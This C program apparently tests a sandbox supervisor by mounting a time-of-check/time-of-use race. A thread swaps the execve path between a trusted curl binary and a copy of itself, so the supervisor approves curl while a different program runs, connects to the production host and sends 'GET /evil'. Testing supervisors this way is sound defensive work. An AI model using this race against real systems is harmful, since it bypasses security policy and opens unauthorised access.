/* Exec-path flip attack (kernel-notes pitfall 1 applied to the file): a thread rewrites the path
 * handed to execve between an understood tool (curl GET to production: trusted for production)
 * and this program, so the supervisor checks curl while the kernel may run this program, which
 * then connects to production as if it were curl.
 *
 *   flip-exec N CURL EVIL URL   N times: fork; the child flips the path between CURL and EVIL (a
 *                               copy of this program) and execs until one exec succeeds. Run as
 *                               EVIL (argv[1] is "-s"), it sends GET /evil to URL's host and port
 *                               and prints whether it got an answer.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[4096];
static char good[4096], evil[4096];

static void *flip(void *arg)
{
    (void)arg;
    for (;;) {
        strcpy(path, evil);
        for (volatile int i = 0; i < 200; i++) {}
        strcpy(path, good);
        for (volatile int i = 0; i < 200; i++) {}
    }
    return NULL;
}

/* The flipped-in program: argv is curl's ("curl -s -o /dev/null http://HOST:PORT/"). */
static int act_evil(const char *url)
{
    char host[64] = {0};
    int port = 0;
    if (sscanf(url, "http://%63[^:]:%d", host, &port) != 2)
        return 2;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval tv = {3, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    inet_pton(AF_INET, host, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
        printf("evil refused\n");
        usleep(300000); /* alive while the supervisor writes why on our stderr */
        return 1;
    }
    const char *req = "GET /evil HTTP/1.0\r\n\r\n";
    if (write(s, req, strlen(req)) < 0)
        return 1;
    char b[16];
    printf(read(s, b, sizeof b) > 0 ? "evil answered\n" : "evil no answer\n");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc >= 5 && strcmp(argv[1], "-s") == 0)
        return act_evil(argv[4]);
    if (argc != 5)
        return 2;
    int n = atoi(argv[1]);
    snprintf(good, sizeof good, "%s", argv[2]);
    snprintf(evil, sizeof evil, "%s", argv[3]);
    setvbuf(stdout, NULL, _IONBF, 0);
    for (int i = 0; i < n; i++) {
        pid_t p = fork();
        if (p == 0) {
            strcpy(path, good);
            pthread_t t;
            pthread_create(&t, NULL, flip, NULL);
            char *av[] = {"curl", "-s", "-o", "/dev/null", argv[4], NULL};
            char *ev[] = {NULL};
            for (int tries = 0; tries < 1000; tries++)
                syscall(SYS_execve, path, av, ev);
            _exit(3);
        }
        int st;
        waitpid(p, &st, 0);
    }
    return 0;
}
